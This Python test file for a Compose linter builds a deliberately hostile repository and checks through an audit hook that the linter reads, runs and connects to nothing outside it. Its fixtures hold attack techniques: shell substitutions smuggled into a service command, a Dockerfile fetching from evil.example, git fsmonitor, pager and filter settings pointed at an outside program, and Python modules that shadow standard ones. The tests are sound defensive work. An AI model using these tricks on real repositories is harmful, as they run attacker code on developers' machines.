"""What docs/security.md says about trees of others, proved over a hostile one.

Each run is another process, in which a hook sees every file that is opened, every program that is started,
every module whose code runs, and every connection.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import composelint
import pytest
from checks import GIT, ROOT, run_python, write_files

SECRET = "outside-Qx9vK2-hunter"
PACKAGE = Path(composelint.__file__).resolve().parent

WATCH = """
import json, os, sys
log = os.open(sys.argv.pop(1), os.O_WRONLY | os.O_CREAT | os.O_APPEND)
busy = []

def hook(event, arguments):
    if busy or event.split(".")[0] not in ("open", "os", "subprocess", "socket", "exec", "shutil",
                                           "ctypes", "pty", "http", "urllib", "ftplib", "smtplib"):
        return
    busy.append(event)
    try:
        texts = [os.fsdecode(one) for one in arguments[:2] if isinstance(one, (str, bytes))]
        if event == "exec":
            texts = [getattr(arguments[0], "co_filename", "")]
        elif event == "open":
            flags = arguments[2] if isinstance(arguments[2], int) else 0
            writes = bool(flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)) or set(str(arguments[1])) & set("wax+")
            texts = texts[:1] and [os.path.abspath(texts[0]), "write" if writes else "read"]
        os.write(log, (json.dumps([event, *texts]) + "\\n").encode())
    finally:
        busy.pop()

import runpy
sys.path[0] = os.getcwd()  # as "python -m" does
sys.addaudithook(hook)
runpy.run_module("composelint", run_name="__main__", alter_sys=True)
"""

FILES = {
    "compose.yaml": """\
version: "3"
include: [OUT/compose.yaml, ../outside/compose.yaml, link/compose.yaml]
services:
  web:
    image: nginx
    build: {context: ../outside, dockerfile: OUT/Dockerfile}
    env_file: [OUT/secret.env, ../outside/secret.env, link/secret.env, .env]
    label_file: OUT/secret.env
    extends: {file: OUT/compose.yaml, service: web}
    volumes: ["OUT:/x", "./link:/y"]
    environment: {TOKEN: "${FROM_ENVIRONMENT}"}
    command: $(touch ran) `touch ran`
  app:
    build:
      context: .
      dockerfile: link.Dockerfile
  inline:
    build:
      context: .
      dockerfile_inline: |
        FROM alpine
        RUN touch ran && . OUT/secret.env
secrets: {s: {file: OUT/secret.env}}
configs: {c: {file: ../outside/secret.env}}
""",
    "Dockerfile": "# syntax=evil.example/front:end\nFROM alpine\nCOPY ../outside OUT /x/\n"
    "ADD https://evil.example/x /x\nRUN . ./lib.sh; touch ran; echo $UNSET\n",
    "composelint.toml": "plugins = ['evil']\nshellcheck = 'OUT/program'\nallow-outside = true\n"
    "use-environment = true\nbaseline = 'OUT/secret.env'\npolicies = ['OUT/policies.yaml']\n"
    "[[stacks]]\nfiles = ['OUT/compose.yaml', 'compose.yaml']\nenv-files = ['OUT/secret.env']\n",
    "sub/.composelint.yaml": "extend: OUT/base.toml\n",
    "sub/compose.yaml": "services: {a: {image: b}}\n",
    ".devcontainer/devcontainer.json": '{"dockerComposeFile": ["../../outside/compose.yaml"]}',
    "Makefile": "up:\n\tdocker compose -f ../outside/compose.yaml -f OUT/compose.yaml up\n\ttouch ran\n",
    "package.json": '{"scripts": {"postinstall": "touch ran"}}',
    "docker-bake.hcl": 'target "x" {\n  dockerfile = "OUT/Dockerfile"\n}\n',
    ".shellcheckrc": "external-sources=true\nsource-path=OUT\n",
    ".hadolint.yaml": "ignored: [DL3008]\n",
    "lib.sh": "touch ran\n",
    ".gitignore": "nothing\n",
    **{
        f"{name}.py": "import pathlib; pathlib.Path('ran').touch()\n"
        for name in (
            "evil",
            "json",
            "yaml",
            "sitecustomize",
            "usercustomize",
            "click",
            "rules",
            "re",
        )
    },
}
OUTSIDE = {
    "compose.yaml": f"services:\n  web:\n    image: {SECRET}\n    environment: [PASSWORD={SECRET}]\n",
    "Dockerfile": f"FROM alpine\nENV PASSWORD={SECRET}\n",
    "secret.env": f"PASSWORD={SECRET}\n",
    "policies.yaml": f"policies: [{{name: {SECRET}}}]\n",
    "base.toml": f'preset = "{SECRET}"\n',
    ".dockerignore": f"{SECRET}\n",
    "program": '#!/bin/sh\ntouch "$(dirname "$0")/ran"\n',
}

CALLS = {
    "default": [],
    "all": ["--preset", "all", "-v", "--show-secrets", "--jobs", "1"],
    "isolated": ["--isolated", "--show-secrets", "--no-cache"],
    "named": ["compose.yaml", "Dockerfile", "link.Dockerfile", "sub/compose.yaml", "--no-cache"],
    "diff": ["--diff", "--unsafe-fixes"],
    "show-settings": ["--show-settings"],
    "config": ["config"],
}
WRITING = {
    "fix": ["--fix", "--unsafe-fixes", "--preset", "all"],
    "add-ignores": ["--add-ignores=because"],
    "report": ["-o", "report.txt", "--report", "sarif=report.sarif"],
    "baseline": ["baseline"],
}


class Seen:
    """What a run did: its events, its output, and what is in the folders afterwards."""

    def __init__(self, folder: Path, options: list[str]) -> None:
        self.tree, self.outside, self.home = (folder / name for name in ("tree", "outside", "home"))
        self.temporary = folder / "temporary"
        self.temporary.mkdir(exist_ok=True)
        log = folder / "log"
        log.unlink(missing_ok=True)
        (folder / "watch.py").write_text(WATCH)
        before = {path: path.stat().st_mtime_ns for path in files_in(self.tree)}
        answer = run_python(
            folder / "watch.py", log, *options, folder=self.tree,
            XDG_CONFIG_HOME=str(self.home / "config"), XDG_STATE_HOME=str(self.home / "state"),
            TMPDIR=str(self.temporary),
            FROM_ENVIRONMENT=f"environment-{SECRET}",
        )  # fmt: skip
        self.code, self.output = answer.returncode, answer.stdout + answer.stderr
        self.events = [json.loads(line) for line in log.read_text().splitlines()]
        self.changed = {
            path.relative_to(self.tree).as_posix()
            for path in files_in(self.tree)
            if before.get(path) != path.stat().st_mtime_ns
        }
        assert self.code in (0, 1, 2), self.output
        assert "internal error" not in self.output, self.output
        assert len(self.events) > 50

    def paths(self, use: str) -> set[Path]:
        """The real paths of the files that were opened to ``read`` or ``write`` them."""
        return {
            Path(os.path.realpath(event[1]))
            for event in self.events
            if event[0] == "open" and len(event) > 2 and event[2] == use
        }


def files_in(folder: Path) -> Iterator[Path]:
    for path in folder.rglob("*"):
        if path.is_file() and not path.is_symlink() and ".git" not in path.parts:
            yield path


def make(folder: Path) -> Path:
    """The hostile tree, and a folder beside it that it must not read."""
    outside, tree = folder / "outside", folder / "tree"
    write_files(OUTSIDE, outside)
    (outside / "program").chmod(0o755)
    write_files({path: text.replace("OUT", str(outside)) for path, text in FILES.items()}, tree)
    (tree / "link").symlink_to(outside)
    (tree / "link.Dockerfile").symlink_to(outside / "Dockerfile")
    (tree / ".env").symlink_to(outside / "secret.env")
    (tree / ".dockerignore").symlink_to(outside / ".dockerignore")
    (tree / "zero.Dockerfile").symlink_to("/dev/zero")
    os.mkfifo(tree / "pipe.compose.yaml")
    for command in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "x"]):
        subprocess.run([*GIT, *command], cwd=tree, check=True)
    (outside / "git.config").write_text(f"[core]\n\tfsmonitor = {outside / 'program'}\n")
    for key in (
        "core.fsmonitor",
        "core.sshCommand",
        "core.pager",
        "filter.x.clean",
        "diff.external",
    ):
        subprocess.run([*GIT, "config", key, str(outside / "program")], cwd=tree, check=True)
    subprocess.run(
        [*GIT, "config", "include.path", str(outside / "git.config")], cwd=tree, check=True
    )
    return folder


@pytest.fixture(scope="module")
def runs(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Seen]:
    """The calls that write nothing, each over the same tree."""
    folder = make(tmp_path_factory.mktemp("hostile"))
    return {name: Seen(folder, options) for name, options in CALLS.items()}


@pytest.fixture(scope="module")
def writing(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Seen]:
    """The calls that write, each over a tree of its own."""
    return {
        name: Seen(make(tmp_path_factory.mktemp(name)), options)
        for name, options in WRITING.items()
    }


def everything(runs: dict[str, Seen], writing: dict[str, Seen]) -> list[Seen]:
    return [*runs.values(), *writing.values()]


def is_ours(path: Path, seen: Seen) -> bool:
    """Whether a file is one of Python, of packages, of ours, or of the user's own configuration."""
    prefixes = (sys.prefix, sys.base_prefix, sys.exec_prefix, PACKAGE, ROOT, seen.home, "/usr/lib")
    places = [Path(os.path.realpath(prefix)) for prefix in (*prefixes, *filter(None, sys.path))]
    return any(path.is_relative_to(place) for place in places)


def test_it_reads_files_of_the_tree_only(runs: dict[str, Seen], writing: dict[str, Seen]) -> None:
    for seen in everything(runs, writing):
        tree = Path(os.path.realpath(seen.tree))
        strange = {
            path
            for path in seen.paths("read")
            if not path.is_relative_to(tree)
            and not is_ours(path, seen)
            and not path.is_relative_to(seen.temporary)
        }
        assert strange <= {Path("/dev/null")}

    assert runs["default"].tree / "compose.yaml" in runs["default"].paths("read")


def test_it_opens_no_pipe_and_no_device(runs: dict[str, Seen], writing: dict[str, Seen]) -> None:
    for seen in everything(runs, writing):
        opened = seen.paths("read")
        assert seen.tree / "pipe.compose.yaml" not in opened
        assert Path("/dev/zero") not in opened


def test_no_output_shows_what_is_outside(runs: dict[str, Seen], writing: dict[str, Seen]) -> None:
    for seen in everything(runs, writing):
        assert SECRET not in seen.output
        for path in files_in(seen.tree):
            assert SECRET.encode() not in path.read_bytes(), path
    assert "LN006" in runs["all"].output


def test_it_says_which_settings_do_not_count(runs: dict[str, Seen]) -> None:
    assert "LN040" in runs["default"].output
    for name in (
        "plugins",
        "shellcheck",
        "allow-outside",
        "use-environment",
        "baseline",
        "policies[0]",
        "extend",
    ):
        assert f'"{name}" is ignored' in runs["all"].output
    assert "LN040" not in runs["isolated"].output


def test_nothing_is_written_unless_it_is_asked_for(runs: dict[str, Seen]) -> None:
    for name, seen in runs.items():
        changed = {path.split("/")[0] for path in seen.changed}
        assert changed <= {".composelint_cache"}, name
        assert changed == set() or "--no-cache" not in CALLS[name]
    assert runs["default"].changed


def test_what_is_asked_for_is_written_in_the_tree_only(writing: dict[str, Seen]) -> None:
    expected = {
        "report": {"report.txt", "report.sarif"},
        "baseline": {".composelint-baseline.json"},
    }
    for name, seen in writing.items():
        changed = {path for path in seen.changed if not path.startswith(".composelint_cache/")}
        assert changed
        if name in expected:
            assert changed == expected[name]
        tree = Path(os.path.realpath(seen.tree))
        strange = {
            path
            for path in seen.paths("write")
            if not path.is_relative_to(tree)
            and not path.is_relative_to(seen.home)
            and not path.is_relative_to(seen.temporary)
        }
        assert strange <= {Path("/dev/null"), seen.tree.parent / "log"}
        left = {path.name for path in files_in(seen.outside)}
        assert left == {*OUTSIDE, "git.config"}
        for file, text in OUTSIDE.items():
            assert (seen.outside / file).read_text() == text


def test_it_starts_git_and_shellcheck_only(runs: dict[str, Seen], writing: dict[str, Seen]) -> None:
    for seen in everything(runs, writing):
        programs = {event[1] for event in seen.events if event[0] == "subprocess.Popen"}
        assert {Path(program).name for program in programs} <= {"git", "shellcheck"}
        assert all(map(os.path.isabs, programs))
        assert not any(
            program.startswith((str(seen.tree), str(seen.outside))) for program in programs
        )
        started = {event[0] for event in seen.events if event[0] != "subprocess.Popen"}
        assert started.isdisjoint(
            {"os.system", "os.exec", "os.posix_spawn", "os.spawn", "pty.spawn"}
        )
        assert not (seen.outside / "ran").exists(), "a program that the tree names has run"
    assert any(
        event[1].endswith("/git")
        for event in runs["isolated"].events
        if event[0] == "subprocess.Popen"
    )


def test_no_code_of_the_tree_runs(runs: dict[str, Seen], writing: dict[str, Seen]) -> None:
    for seen in everything(runs, writing):
        code = {Path(event[1]) for event in seen.events if event[0] == "exec" and len(event) > 1}
        assert not any(path.is_relative_to(seen.tree) for path in code)
        assert not (seen.tree / "ran").exists()


def test_no_connection_is_opened(runs: dict[str, Seen], writing: dict[str, Seen]) -> None:
    for seen in everything(runs, writing):
        events = {event[0].partition(".")[0] for event in seen.events}
        assert events.isdisjoint({"socket", "http", "urllib", "ftplib", "smtplib", "ctypes"})


@pytest.mark.parametrize("path", [".", "", "bin"])
def test_git_is_not_looked_for_in_the_tree(tmp_path: Path, path: str) -> None:
    tree = make(tmp_path) / "tree"
    program = tree / path / "git"
    program.parent.mkdir(exist_ok=True)
    program.write_text("#!/bin/sh\ntouch ran\n")
    program.chmod(0o755)
    search = os.pathsep.join([path, os.environ["PATH"]])
    run_python("-m", "composelint", "--no-cache", folder=tree, PATH=search)
    assert not (tree / "ran").exists()


def test_the_hook_sees_what_is_not_allowed(tmp_path: Path) -> None:
    """With --trust the same tree reads outside, and the tests above would tell."""
    folder = make(tmp_path)
    (folder / "tree" / "composelint.toml").write_text("allow-outside = true\n")
    seen = Seen(folder, ["--trust", "--show-secrets", "link.Dockerfile"])
    assert folder / "outside" / "Dockerfile" in seen.paths("read")
    assert SECRET in seen.output


# --- the page

PROOFS = {
    "Files below the root": "test_it_reads_files_of_the_tree_only",
    "Nothing outside of it": "test_no_output_shows_what_is_outside",
    "Regular files only": "test_it_opens_no_pipe_and_no_device",
    "Configurations of the linted folders": "test_it_reads_files_of_the_tree_only",
    "Its own files": "test_it_reads_files_of_the_tree_only",
    "The environment of the process": "test_no_output_shows_what_is_outside",
    "Nothing in the tree but its cache": "test_nothing_is_written_unless_it_is_asked_for",
    "With `--fix`, files below": "test_what_is_asked_for_is_written_in_the_tree_only",
    "Reports, in one step": "test_what_is_asked_for_is_written_in_the_tree_only",
    "git, as it is found": "test_git_is_not_looked_for_in_the_tree",
    "ShellCheck, the one": "test_it_starts_git_and_shellcheck_only",
    "Nothing of the tree": "test_no_code_of_the_tree_runs",
    "No connection": "test_no_connection_is_opened",
    "Of the cache only": "",  # tests/engine/test_cache.py
    "The command line": "",  # tests/config/test_trust.py
    "Not the tree": "test_it_says_which_settings_do_not_count",
}
"""The beginning of each sentence in the lists of docs/security.md, and a test that proves it."""


def test_each_sentence_of_the_page_has_a_test() -> None:
    text = (ROOT / "docs" / "security.md").read_text(encoding="utf-8")
    sentences = re.findall(r"(?m)^- (.*)", text)
    beginnings = [next((key for key in PROOFS if line.startswith(key)), line) for line in sentences]
    assert beginnings == [*PROOFS] or sorted(beginnings) == sorted(PROOFS)
    assert {name for name in PROOFS.values() if name} <= globals().keys()
